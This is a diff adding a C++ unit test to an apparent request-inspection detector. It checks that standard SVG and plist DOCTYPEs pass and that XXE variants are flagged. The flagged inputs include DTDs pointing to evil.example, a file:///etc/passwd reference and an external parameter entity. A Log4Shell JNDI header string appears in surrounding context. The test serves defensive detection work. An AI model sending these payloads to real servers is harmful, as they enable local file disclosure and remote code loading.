@@ -180,6 +180,34 @@ TEST(Detectors, ClientLibraryUserAgentsAreAllowed) {
   }
 }
 
+// Documents that name a published DTD (XHTML, SVG 1.1, Apple property lists) by its public
+// identifier and canonical URL are no external-DTD attack; the same declaration pointing
+// elsewhere, a SYSTEM DTD, or one with an internal subset still is.
+TEST(Detectors, WellKnownPublicDoctypesAreAllowed) {
+  for (const char* doc :
+       {"<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" "
+        "\"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg "
+        "xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/></svg>",
+        "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" "
+        "\"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist "
+        "version=\"1.0\"><dict><key>a</key><string>b</string></dict></plist>"}) {
+    Verdict v = Inspect(testing::Post("/api/doc", "application/xml", doc));
+    EXPECT_FALSE(Flagged(v)) << doc << " -> " << v.explanation;
+  }
+  for (const char* doc :
+       {"<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" "
+        "\"http://evil.example/x.dtd\"><svg/>",
+        "<?xml version=\"1.0\"?><!DOCTYPE x PUBLIC \"-//W3C//DTD X//EN\" "
+        "\"file:///etc/passwd\"><x/>",
+        "<?xml version=\"1.0\"?><!DOCTYPE note SYSTEM \"Note.dtd\"><note/>",
+        "<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" "
+        "\"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [<!ENTITY % p SYSTEM "
+        "\"http://evil.example/\">%p;]><svg/>"}) {
+    Verdict v = Inspect(testing::Post("/api/doc", "application/xml", doc));
+    EXPECT_TRUE(HasCategory(v, Category::kXxe) && Flagged(v)) << doc << " -> " << v.explanation;
+  }
+}
+
 TEST(Detectors, Log4ShellInAnyHeaderIsBlocked) {
   OwnedHttpRequest r = testing::Get("/");
   r.headers.emplace_back("Accept-Language", "${jndi:ldap://x.example/a}");
